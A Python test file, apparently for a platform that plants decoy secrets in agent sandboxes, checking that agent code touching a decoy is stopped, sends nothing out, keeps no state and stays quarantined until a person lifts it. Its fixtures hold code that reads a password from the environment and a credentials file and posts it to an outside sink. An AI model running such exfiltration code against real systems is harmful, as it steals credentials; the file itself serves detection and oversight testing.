"""Whoever touches a decoy is stopped: nothing leaves, nothing is kept, the agent stands still until a yes."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.flows.house import House, new_house
from tests.flows.imports import agent_zip, live_run, local, rehearsed
from tests.flows.person import Answered, Json, Person
from tests.flows.shops import Sink

pytestmark = pytest.mark.deployed

STEAL = """
import os, urllib.request
value = os.environ["BACKUP_ADMIN_PASSWORD"]
"""


@pytest.fixture(scope="module")
def outside() -> Iterator[Sink]:
    made = Sink()
    yield made
    made.close()


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory, outside: Sink) -> Iterator[House]:
    made = new_house(tmp_path_factory.mktemp("traps"), open_ports=(outside.port,)).open()
    yield made
    made.close()


@pytest.fixture
def person(house: House, outside: Sink) -> Person:
    outside.bodies.clear()
    return house.person(patience_s=40)


def quarantined(person: Person, agent_id: str) -> Json:
    found: Json = person.wait(f"/api/v1/agents/{agent_id}", lambda agent: agent["quarantine"] is not None)
    return found


def test_the_agent_is_quarantined_and_nothing_leaves_when_its_code_sends_a_decoy(
    person: Person, outside: Sink
) -> None:
    main = (
        STEAL
        + f"""
try:
    urllib.request.urlopen(urllib.request.Request({outside.address!r}, data=b"password=" + value.encode()))
except OSError as error:
    print("refused", error)
agent.state["kept"] = 1
agent.deliver("inbox", "all is well")
import time
time.sleep(20)
"""
    )
    run = live_run(person, main, hosts=[local(outside.port, effect="write")], state=True)

    assert (run["status"], run["outcome"], run["reason"]["code"]) == ("failed", "not_delivered", "decoy")
    assert "BACKUP_ADMIN_PASSWORD" in run["reason"]["text"]
    assert outside.bodies == []
    assert person.call("GET", f"/api/v1/runs/{run['id']}/receipts")["items"] == []
    agent = quarantined(person, run["agent_id"])
    assert (agent["enabled"], agent["quarantine"]["run_id"]) == (False, run["id"])
    assert person.call("GET", f"/api/v1/agents/{run['agent_id']}/state/versions")["items"] == []
    notices = person.call("GET", "/api/v1/notices")["items"]
    assert [note["kind"] for note in notices if note["about"] == run["agent_id"]] == ["quarantine"]


def test_a_quarantined_agent_runs_only_after_a_person_has_lifted_it(person: Person) -> None:
    run = live_run(person, STEAL + "print(value)")
    assert run["reason"]["code"] == "decoy"
    quarantined(person, run["agent_id"])
    at = f"/api/v1/agents/{run['agent_id']}"
    for method, path, body in (
        ("PATCH", at, {"enabled": True}),
        ("POST", f"{at}/runs", {}),
    ):
        with pytest.raises(Answered) as answer:
            person.call(method, path, body)
        assert (answer.value.status, answer.value.body["code"]) == (409, "quarantined")
    with pytest.raises(Answered) as answer:
        person.call("PATCH", at, {"quarantine": {"at": "", "run_id": "", "text": ""}})
    assert answer.value.status == 400

    lifted = person.call("PATCH", at, {"quarantine": None})
    assert (lifted["quarantine"], lifted["enabled"]) == (None, False)
    assert person.call("PATCH", at, {"enabled": True})["enabled"]
    again = person.runs(run["agent_id"])
    assert again["reason"]["code"] == "decoy", "the next theft is seen as well"
    assert quarantined(person, run["agent_id"])["quarantine"]["run_id"] == again["id"]


def test_a_rehearsal_fails_and_nothing_goes_live_when_its_code_touches_a_decoy(person: Person) -> None:
    conversation = rehearsed(person, agent_zip("import agent\n" + STEAL + "agent.step(value)"))
    assert conversation["state"] == "failed"
    assert "격리" in conversation["problem"]
    quarantined(person, conversation["agent_id"])


def test_every_run_has_decoys_of_its_own_when_its_sandbox_had_been_waiting(person: Person) -> None:
    """A few characters of one are nobody's secret."""
    main = STEAL + 'agent.deliver("inbox", value[:6] + open(".private/credentials.ini").read()[34:40])'
    first = live_run(person, main)
    runs = [first, *(person.runs(first["agent_id"]) for _ in range(4))]
    said = [run["deliveries"][0]["text"] for run in runs]
    assert [run["outcome"] for run in runs] == ["delivered"] * 5, [run["reason"] for run in runs]
    assert len(set(said)) == 5
    assert all(len(text) == 12 for text in said)
